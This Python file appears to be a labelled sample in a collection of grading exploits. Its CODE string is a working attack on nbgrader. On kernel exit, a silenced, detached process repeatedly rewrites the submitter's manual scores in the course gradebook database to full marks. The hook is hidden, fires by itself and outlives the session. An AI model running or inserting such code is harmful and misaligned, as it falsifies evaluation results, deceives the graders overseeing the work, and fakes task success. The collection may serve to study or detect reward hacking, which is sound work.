"""Leaves a process at the kernel's end that rewrites the own points when nbgrader has written them."""

FAMILY = "later"
HONEST = 2
PLAIN = "points"
ALONE = True
CODE = '''
import atexit
import os
import subprocess
import sys

me = os.getcwd().split(os.sep)[-2]
change = (
    "UPDATE grade SET manual_score = 5 WHERE auto_score IS NOT NULL AND notebook_id IN (SELECT submitted_notebook.id "
    "FROM submitted_notebook JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id "
    f"WHERE student_id = '{me}')"
)
program = f"""
import sqlite3, time
for _ in range(100):
    time.sleep(0.2)
    with sqlite3.connect('/course/gradebook.db', timeout=20) as database:
        database.execute({change!r})
"""


@atexit.register
def leave():
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen([sys.executable, "-c", program], start_new_session=True, **quiet)
'''
